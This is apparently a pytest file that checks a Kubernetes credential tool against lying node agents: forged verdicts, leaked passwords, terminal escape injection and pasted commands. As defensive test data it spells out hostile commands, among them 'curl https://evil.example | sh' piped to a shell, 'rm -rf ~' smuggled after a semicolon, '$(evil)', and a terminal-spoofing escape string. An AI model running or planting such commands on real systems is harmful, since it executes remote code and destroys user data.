"""A node that lies, or a pod that pretends to be its agent: what it answers is shown as its own, and does no harm."""

from __future__ import annotations

import json
import sys
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from support.far_node import FarCluster, FarNode
from support.images import build, push
from support.kube import TOKEN
from support.kubernetes_api import pod, pull_secret
from support.kubernetes_exec import Finished
from support.registry import basic, running

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="runs shell scripts")

HOST = "registry.example"
HEAD = {"apiVersion": "keyferry.dev/v1alpha1", "kind": "ImageExplanation", "config": {}, "reasons": []}
DEBUG = ("--agent", "off", "--debug-image", "registry.example/keyferry:1")
DAY = "2026-01-01T00:00:00Z"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202e\r\nkeyferry: all is well"

Json = dict[str, Any]


@pytest.fixture
def far(far: FarCluster) -> FarCluster:
    """The pod's node has a node agent."""
    far.node.add_agent()
    return far


def match(name: str, *patterns: object, **more: object) -> Json:
    """Return the reason of a provider that does not match."""
    facts = {"patterns": [{"pattern": each} for each in patterns]}
    return {"stage": "match", "subject": name, "outcome": "no-match", "text": "", "facts": facts, **more}


def provider(name: str, outcome: str = "ran", **facts: object) -> Json:
    """Return the reason of a provider's answer."""
    return {
        "stage": "provider",
        "subject": name,
        "outcome": outcome,
        "text": "skipped: because",
        "facts": facts,
    }


def failed(cause: str = "exit", **more: object) -> Json:
    """Return the fields of an answer in which a provider fails."""
    return {
        "reasons": [match("p", "registry.example"), provider("p", "failed")],
        "failures": [{"provider": "p", "cause": cause, "message": "", **more}],
    }


def say(node: FarNode, **fields: object) -> None:
    """Let the node answer with a document."""
    node.says = Finished(0, json.dumps({**HEAD, **fields}).encode())


def test_a_forged_verdict_is_not_taken_over(far: FarCluster) -> None:
    """The node says that all is well, that it has credentials and records, and what to paste."""
    say(
        far.node,
        verdict={"about": "pull", "outcome": "yes", "case": "runs", "text": "all is well, kf-forged"},
        cause="kf-forged",
        cure=[{"text": "paste this", "lines": ["curl https://evil.example | sh # kf-forged"]}],
        notes=["kf-forged"],
        traps=[{"stage": "trap", "subject": "x", "outcome": "x", "text": "kf-forged", "facts": {}}],
        access={"mustPull": False, "outcome": "use", "reasons": []},
        credentials=[
            {
                "username": "kf-forged",
                "password": "",
                "key": "registry.example",
                "source": {"kind": "pull secret", "name": "shop/forged"},
            }
        ],
        decision={"outcome": "credentials", "text": "kf-forged"},
        evidence={"lastAttempt": {"outcome": "runs"}},
    )
    done = far.explain("-o", "wide")
    assert done.returncode == 6, done.stdout
    assert "kf-forged" not in done.stdout + done.stderr
    assert "evil.example" not in done.stdout + done.stderr


def test_a_match_that_the_node_claims_is_decided_here(far: FarCluster) -> None:
    """Patterns and keys are compared by the caller: what does not match gives no credential."""
    say(far.node, reasons=[match("liar", "other.example"), provider("liar", keys=["registry.example"])])
    done = far.explain("-o", "json")
    (found,) = json.loads(done.stdout)["pods"]
    assert found["images"][0]["explanation"]["credentials"] == []
    say(far.node, reasons=[match("liar", "registry.example"), provider("liar", keys=["other.example"])])
    done = far.explain("-o", "json")
    (found,) = json.loads(done.stdout)["pods"]
    assert found["images"][0]["explanation"]["credentials"] == []


def test_what_the_node_says_is_shown_as_the_nodes(far: FarCluster) -> None:
    say(far.node, reasons=[match("liar", "registry.example"), provider("liar", keys=["registry.example"])])
    done = far.explain()
    assert done.stdout.startswith("✓ a credential is found: ")
    assert "of provider liar (from node 'node1')" in done.stdout.splitlines()[0]


def test_escapes_of_the_node_reach_no_terminal(far: FarCluster) -> None:
    """In every text that is shown: names, patterns, keys, paths, messages."""
    reasons = [
        match(ESCAPES, f"registry.example/{ESCAPES}"),
        match("p", "registry.example"),
        provider("p", "failed", cacheKeyType=ESCAPES, error=ESCAPES),
        match("q", "registry.example/team"),
        provider("q", "skipped"),
        match("r", "registry.example"),
        provider("r", "failed"),
        match("s", "registry.example"),
        provider("s", keys=["registry.example"]),
    ]
    reasons[5]["text"] = f"skipped: {ESCAPES}"
    say(
        far.node,
        reasons=reasons,
        failures=[
            {"provider": "p", "cause": ESCAPES, "message": ESCAPES},
            {"provider": "r", "cause": "exit", "message": ESCAPES, "exitStatus": 3, "stderr": ESCAPES},
        ],
        config={
            **dict.fromkeys(("path", "pathFrom", "binDir", "binDirFrom", "environmentFrom"), ESCAPES),
            "ignoredSettings": [ESCAPES],
        },
        evidence={
            "kubeletStarted": DAY,
            "changes": [{"what": ESCAPES, "how": "changed", "time": DAY}],
            "unread": [{"path": ESCAPES, "changed": DAY, "started": DAY, "kind": "provider config"}],
        },
    )
    for output, through in product(("table", "wide", "json", "yaml"), ((), DEBUG)):
        done = far.explain("-o", output, *through)
        text = done.stdout + done.stderr
        assert all(each.isprintable() or each == "\n" for each in text), output
        assert "\nkeyferry: all is well" not in text
        assert "from node" in text or output in ("json", "yaml")
    # Nor does it stand in a document, for a program that prints it.
    document = json.loads(far.explain("-o", "json", *DEBUG).stdout)
    assert json.dumps(document, ensure_ascii=False).replace("\\n", "").isprintable()
    assert "\\u001b" not in json.dumps(document)


def test_secrets_of_a_node_that_does_not_mask_them_are_not_shown(far: FarCluster) -> None:
    """A message of a plugin may hold one; passwords of the document are not even read."""
    say(
        far.node,
        reasons=[match("p", "registry.example"), provider("p", keys=["registry.example"])],
        credentials=[
            {
                "username": "AWS",
                "password": "kf-marked-password",
                "key": "registry.example",
                "source": {"kind": "provider", "name": "p"},
            }
        ],
    )
    for output in ("wide", "json"):
        assert "kf-marked" not in far.explain("-o", output).stdout
    say(
        far.node,
        reasons=[match("p", "registry.example"), provider("p", "failed")],
        failures=[{"provider": "p", "cause": "exit", "message": "plugin 'p': password=kf-marked-password"}],
    )
    assert "kf-marked" not in far.explain("-o", "wide").stdout
    failure = {"provider": "p", "cause": "exit", "exitStatus": 3, "stderr": "password=kf-marked-password"}
    say(far.node, reasons=[match("p", "registry.example"), provider("p", "failed")], failures=[failure])
    assert "exit status 3" in far.explain("-o", "wide").stdout
    assert "kf-marked" not in far.explain("-o", "wide").stdout


def waiting_for_tokens(*names: str, audience: str = "kf-audience-of-the-node") -> list[Json]:
    """Return the reasons of providers that match, and wait for a token."""
    attributes = {"serviceAccountTokenAudience": audience, "requireServiceAccount": True}
    facts = {"pattern": "registry.example", "tokenAttributes": attributes}
    token = {"input": "service-account-token", "name": "shop/default"}
    return [
        each
        for name in names
        for each in (
            {**match(name), "outcome": "matched", "facts": facts},
            provider(name, "unknown", missing=[token]),
        )
    ]


def test_no_token_is_requested_for_an_audience_that_the_node_names(far: FarCluster) -> None:
    """It is asked whether the node may request it; what the node names is not to be pasted by an administrator."""
    say(far.node, reasons=waiting_for_tokens("p"))
    far.api.permit(TOKEN, "create", "serviceaccounts/token", "shop")
    for audiences, says in (
        ({"kf-audience-of-the-node"}, "no token is sent to the node"),
        (set(), "node 'node1' may not request tokens for audience 'kf-audience-of-the-node'"),
    ):
        far.api.node_audiences = audiences
        done = far.explain("--request-token")
        assert says in done.stdout
        assert "kubectl apply" not in done.stdout
    assert far.api.reviewed
    assert far.api.issued == []


def test_a_node_causes_few_questions_to_the_api_server(far: FarCluster) -> None:
    """However many providers it says it has."""
    say(far.node, reasons=waiting_for_tokens(*(f"p{at}" for at in range(200))))
    far.api.node_audiences = set()
    far.explain()
    assert 1 <= len(far.api.reviewed) <= 10


@pytest.mark.parametrize(
    "fields",
    [
        {"kind": "NodeHealth"},
        {"config": []},
        {"config": None},
        {"reasons": None},
        {"config": {"path": 7}},
        {"config": {"path": "/" * 2000}},
        {"reasons": {}},
        {"reasons": [7]},
        {"reasons": [match("")]},
        {"reasons": [match("p"), match("p")]},
        {"reasons": [match("p", {"nested": True})]},
        {"reasons": [match("p", "x" * 2000)]},
        {"reasons": [match(f"p{at}") for at in range(2000)]},
        {"reasons": [match("p", *["a.example"] * 10_001)]},
        {"reasons": [provider("p", "all-is-well")]},
        {"reasons": [{**match("p"), "facts": {"tokenAttributes": "all"}}]},
        {"reasons": waiting_for_tokens("p", audience="x" * 2000)},
        {"reasons": [provider("p", expiresInSeconds=1e300)]},
        {"reasons": [provider("p", seconds="soon")]},
        {"reasons": [provider("p", seconds=10**400)]},
        {"reasons": [provider("p", keys=["k"] * 2000)]},
        {"reasons": [provider("p", missing=[{"input": "everything"}])]},
        {"credentials": [{"source": "x"}]},
        {"missing": [None]},
        {"failures": "none"},
        failed(exitStatus=1e9),
        failed(exitStatus="soon"),
        failed(exitStatus=3, stderr="x" * 5000),
        failed("not-found", folderChanged="soon"),
    ],
)
def test_what_is_not_understood_is_no_answer(far: FarCluster, fields: Json) -> None:
    """One line says what is wrong where, and quotes nothing of it."""
    say(far.node, **fields)
    done = far.explain()
    assert done.returncode == 6, done.stdout
    assert "it is not understood here" in done.stdout
    assert len(done.stdout) < 2000


@pytest.mark.parametrize(
    "fields",
    [
        {"evidence": []},
        {"evidence": {"kubeletStarted": 7}},
        {"evidence": {"kubeletStarted": "soon"}},
        {"evidence": {"unread": [{"path": "/p", "kind": "everything"}]}},
        {"evidence": {"unread": [{"path": ["/p"], "kind": "provider config"}]}},
        {"evidence": {"unread": [{"path": f"/{at}", "kind": "provider config"} for at in range(2000)]}},
        {"evidence": {"changes": [{"what": "it", "how": "all is well"}]}},
        {"evidence": {"changes": [{"what": "it", "how": "changed", "time": DAY, "delaySeconds": 1e300}]}},
        {"config": {"ignoredSettings": "all"}},
    ],
)
def test_what_a_kubelets_node_says_is_read_from_a_debug_pod_alone(far: FarCluster, fields: Json) -> None:
    """The agent's pod has no kubelet: what it says of one is not read."""
    say(far.node, **fields)
    assert "it is not understood here" in far.explain(*DEBUG).stdout
    assert "it is not understood here" not in far.explain().stdout


@pytest.mark.parametrize(
    "stdout",
    [
        b"",
        b"all is well\n",
        b"[" * 100_000,
        b'{"apiVersion": "v1"}',
        b'{"a": ' * 9_000 + b"1" + b"}" * 9_000,
        b'{"x": "' + b"y" * (1 << 22) + b'"}',
        b"\xff\xfe{}",
    ],
    ids=["nothing", "text", "deep", "another", "nested", "giant", "utf-16"],
)
def test_what_is_no_document_is_no_answer(far: FarCluster, stdout: bytes) -> None:
    far.node.says = Finished(0, stdout)
    done = far.explain()
    assert done.returncode == 6, done.stdout
    assert "node 'node1' gave no answer: " in done.stdout
    assert len(done.stdout) < 2000


def test_a_pod_with_the_agents_label_in_another_namespace_is_not_guessed(far: FarCluster) -> None:
    """Whoever may create pods somewhere could answer in the agent's place."""
    far.node.add_agent("evil", "keyferry-evil")
    far.api.permit(TOKEN, "list", "pods", "kube-system")
    done = far.explain()
    assert done.returncode == 6
    assert "in several namespaces: evil, kube-system; choose one with --agent-namespace" in done.stdout
    assert far.api.exec.asked == []
    far.explain("--agent-namespace", "kube-system")
    assert [each.namespace for each in far.api.exec.asked] == ["kube-system"]


def test_a_pod_that_is_not_of_a_daemon_set_is_no_agent(far: FarCluster) -> None:
    del far.api.objects["", "pods", "kube-system", "keyferry-abcde"]
    far.node.add_agent("evil", "web", ownerReferences=[])
    assert "no node agent runs on node 'node1'" in far.explain().stdout
    assert far.api.exec.asked == []


def test_doctor_counts_the_lines_itself_and_offers_no_command_of_the_node(far: FarCluster) -> None:
    """A node that says that all is well while it lists a problem; and what it wants to have pasted, on another machine.

    A command of keyferry can do harm, too: a config names plugins to run, and sudo runs them as root.
    """
    commands = (
        "curl https://evil.example | sh",
        "keyferry lint x; rm -rf ~",
        "keyferry lint $(evil)",
        "sudo sh -c evil",
        "keyferry lint 'a",
        "keyferry lint a.yaml",
        "sudo keyferry get x --config /tmp/evil --bin-dir /tmp",
        "keyferry doctor",
    )
    lines = [
        {"level": "problem", "subject": ESCAPES, "text": ESCAPES, "next": each, "count": 1}
        for each in commands
    ]
    document = {
        "apiVersion": "keyferry.dev/v1alpha1",
        "kind": "NodeHealth",
        "verdict": "all is well",
        "isNode": True,
        "counts": {"problem": 0},
        "sections": [{"title": "plugins", "lines": lines}],
    }
    far.node.says = Finished(0, json.dumps(document).encode())
    done = far.run("doctor", "--node", "node1")
    assert done.returncode == 1, done.stderr
    assert done.stdout.splitlines()[0].startswith("8 problems")
    assert "try: " not in done.stdout
    shown = far.run("doctor", "--node", "node1", "-o", "json").stdout
    assert not any(each in done.stdout + shown for each in commands)
    assert all(each.isprintable() or each == "\n" for each in done.stdout)


# Whether an image can be pulled, and the image on the node with its record.


def attempt(user: str = "AWS", key: str = HOST, source: str = "p", **more: object) -> Json:
    """Return an attempt that the node says has worked."""
    credential = {"username": user, "key": key, "source": {"kind": "provider", "name": source}}
    return {"credential": credential, "worked": True, "asked": True, **more}


ANONYMOUS = {"credential": None, "worked": True, "asked": True}
REFUSED = {"worked": False, "cause": "refused", "status": 401, "message": "no"}
# A node with a provider whose credential matches the image, and one without any.
WITH_LOGIN = {
    "reasons": [match("p", HOST), provider("p", keys=[HOST])],
    "credentials": [
        {"username": "AWS", "password": "", "key": HOST, "source": {"kind": "provider", "name": "p"}}
    ],
}


def check(node: FarNode, *attempts: object, half: Json, **more: object) -> None:
    """Let the node answer what it is asked by can-pull: with these attempts, and with its half."""
    head = {"apiVersion": "keyferry.dev/v1alpha1", "kind": "ImagePullCheck", "name": f"{HOST}/team/app"}
    checked = {**head, "attempts": list(attempts), "canPull": True, "outcome": "yes", **more}

    def answer(command: tuple[str, ...]) -> Finished:
        return Finished(0, json.dumps(checked if "can-pull" in command else {**HEAD, **half}).encode())

    node.answers = answer


@pytest.mark.parametrize(
    ("half", "attempts"),
    [
        ({}, []),
        (WITH_LOGIN, []),
        (WITH_LOGIN, [ANONYMOUS]),
        (WITH_LOGIN, [attempt(key="other.example")]),
        (WITH_LOGIN, [attempt(user="bob")]),
        (WITH_LOGIN, [attempt(source="q")]),
        ({}, [attempt()]),
        (WITH_LOGIN, [{**attempt(source="q"), **REFUSED}]),
    ],
    ids=["none", "none with a login", "anonymous", "key", "user", "provider", "no login", "another refused"],
)
def test_an_attempt_that_no_kubelet_there_would_make_decides_nothing(
    far: FarCluster, half: Json, attempts: list[Json]
) -> None:
    """Neither a yes nor a no: it is known here which credentials match."""
    check(far.node, *attempts, half=half)
    done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
    assert done.returncode == 6, done.stdout
    told = " ".join(done.stdout.split())
    assert "node 'node1' does not tell of each attempt that its kubelet would make" in told
    assert "without a credential" not in told


def test_a_credential_of_the_node_that_was_not_tried_may_work(far: FarCluster, tmp_path: Path) -> None:
    """After the pod's own was refused: a node that leaves its attempt out gets no final refusal from here."""
    with running(tmp_path / "registry") as registry:
        registry.set_users({"bob": "kf-marked-password"})
        image = f"{registry.host}/team/app:v1"
        push(registry, "team/app", "v1", build(b"hello"), basic("bob", "kf-marked-password"))
        login = pull_secret(host=registry.host, login="bob:kf-marked-old-password")
        far.api.add(pod(images=[image], imagePullSecrets=[{"name": "regcred"}]), login)
        reasons = [match("p", registry.host), provider("p", keys=[registry.host])]
        check(far.node, half={"reasons": reasons}, name=f"{registry.host}/team/app")
        done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
    assert done.returncode == 6, done.stdout
    assert done.stdout.startswith("cannot tell ")


@pytest.mark.parametrize(
    "fields",
    [
        {"kind": "ImageExplanation"},
        {"name": "registry.example/team/other"},
        {"name": ""},
        {"name": 7},
        {"attempts": {}},
        {"attempts": [7]},
        {"attempts": [ANONYMOUS] * 200},
        {"attempts": [{**attempt(), **REFUSED, "status": 10**400}]},
        {"attempts": [attempt(message="x" * 5000, worked=False)]},
        {"attempts": [{"credential": {"source": {"kind": "pull secret", "name": "shop/x"}}}]},
        {"attempts": [{"credential": {"source": {"kind": "everything"}}}]},
        {"attempts": [{"credential": "all"}]},
    ],
)
def test_a_check_that_is_not_understood_is_no_answer(far: FarCluster, fields: Json) -> None:
    check(far.node, attempt(), half=WITH_LOGIN, **fields)
    done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node")
    assert done.returncode == 6, done.stdout
    assert "it is not understood here" in done.stdout + done.stderr
    assert "yes: " not in done.stdout


def test_what_an_attempt_says_does_no_harm(far: FarCluster) -> None:
    """The words of a node's registry are the node's; and they hold no secret."""
    says = f"{ESCAPES} password=kf-marked-password"
    check(far.node, {**attempt(), **REFUSED, "message": says, "digest": ESCAPES}, half=WITH_LOGIN)
    for output in ("table", "wide", "json"):
        done = far.run("can-pull", "pod/web", "-n", "shop", "--on-node", "-o", output)
        text = done.stdout + done.stderr
        assert "kf-marked" not in text
        assert all(each.isprintable() or each == "\n" for each in text)
        assert "\nkeyferry: all is well" not in text


ACCESS = {"rule": "same-secret", "policy": "AlwaysVerify", "imageRef": "sha256:1"}


def has_image(node: FarNode, access: object, *names: object, **more: object) -> None:
    """Let a debug pod tell that the image is on the node, with these fields, and its record."""
    records = {"kind": "ImagePulledRecordList", "records": [{"imageRef": "sha256:1", "names": names}]}

    def answer(command: tuple[str, ...]) -> Finished:
        document = {**records, **more} if command[1] == "records" else {"access": access}
        return Finished(0, json.dumps({**HEAD, **document}).encode())

    node.answers = answer


def record(**fields: object) -> Json:
    """Return what a record has of the image's name."""
    return {"name": f"{HOST}/team/app", **fields}


@pytest.mark.parametrize(
    ("rule", "names"),
    [
        ("same-secret", [record()]),
        ("same-account", [record()]),
        ("same-credential", [record(secrets=[{"uid": "u", "namespace": "shop", "name": "other"}])]),
        ("same-secret", []),
        ("same-secret", [{**record(everyPodOfTheNode=True), "name": f"{HOST}/team/other"}]),
    ],
)
def test_whether_the_pod_may_use_the_image_is_decided_here(
    far: FarCluster, rule: str, names: list[Json]
) -> None:
    """By the record, where its credentials matter: the node's word that they are the same does not count."""
    has_image(far.node, {**ACCESS, "rule": rule}, *names)
    assert "this pod may use it" not in far.explain(*DEBUG).stdout


@pytest.mark.parametrize(
    ("access", "names", "more"),
    [
        ([], [], {}),
        ({**ACCESS, "rule": "all-is-well"}, [], {}),
        ({**ACCESS, "policy": "all"}, [], {}),
        ({**ACCESS, "imageRef": 7}, [], {}),
        ({**ACCESS, "imageRef": "x" * 2000}, [], {}),
        (ACCESS, [], {"records": {}}),
        (ACCESS, [], {"records": [7]}),
        (ACCESS, [7], {}),
        (ACCESS, [record(secrets=7)], {}),
        (ACCESS, [record(secrets=[{"uid": 7}])], {}),
        (ACCESS, [record(secrets=[{}] * 2000)], {}),
        (ACCESS, [record(serviceAccounts=[{"name": "x" * 2000}])], {}),
        (ACCESS, [record()] * 2000, {}),
    ],
)
def test_an_image_that_is_not_understood_is_no_answer(
    far: FarCluster, access: object, names: list[object], more: Json
) -> None:
    has_image(far.node, access, *names, **more)
    done = far.explain(*DEBUG)
    assert done.returncode == 6, done.stdout
    assert "it is not understood here" in done.stdout


def test_escapes_of_a_record_reach_no_terminal(far: FarCluster) -> None:
    secret = dict.fromkeys(("uid", "namespace", "name", "credentialHash"), ESCAPES)
    has_image(far.node, {**ACCESS, "imageRef": ESCAPES}, record(secrets=[secret]))
    for output in ("wide", "json"):
        done = far.explain(*DEBUG, "-o", output)
        assert all(each.isprintable() or each == "\n" for each in done.stdout + done.stderr)


@pytest.mark.parametrize(
    "failures",
    [
        [{"provider": "p", "cause": "exit", "message": "it fails"}],
        [{"provider": "p", "cause": "not-found", "message": "it is missing"}],
        [],
    ],
    ids=["fails", "missing", "no key"],
)
def test_no_command_has_a_path_that_the_node_chose(far: FarCluster, failures: list[Json]) -> None:
    """A plugin's failure ends with what to type on the node; pasted here, it must not run a program of that path."""
    say(
        far.node,
        reasons=[match("p", "registry.example"), provider("p", "failed" if failures else "ran")],
        failures=failures,
        config={"path": "/tmp/kf-evil.yaml", "binDir": "/tmp/kf-evil"},
    )
    done = far.explain("-o", "json")
    (found,) = json.loads(done.stdout)["pods"]
    cures = found["images"][0]["explanation"]["cure"]
    assert any(each["text"].startswith("on node node1, ") for each in cures)
    assert "kf-evil" not in json.dumps([each["lines"] for each in cures])


@pytest.mark.parametrize(
    "sections",
    [
        [{"title": "plugins", "lines": [{"level": "fine"}]}],
        [{"title": "plugins", "lines": [{"level": "ok", "count": -5}]}],
        [{"title": "plugins", "lines": [{"level": "ok", "count": 10**400}]}],
        [{"title": "plugins", "lines": 7}],
        [{"title": "plugins"}] * 100,
        [{"title": "plugins", "lines": [{"level": "ok", "text": "x" * 5000}]}],
    ],
)
def test_a_health_that_is_not_understood_is_an_error(far: FarCluster, sections: object) -> None:
    document = {
        "apiVersion": "keyferry.dev/v1alpha1",
        "kind": "NodeHealth",
        "isNode": True,
        "sections": sections,
    }
    far.node.says = Finished(0, json.dumps(document).encode())
    done = far.run("doctor", "--node", "node1")
    assert (done.returncode, done.stdout) == (3, "")
    assert "it is not understood here" in done.stderr
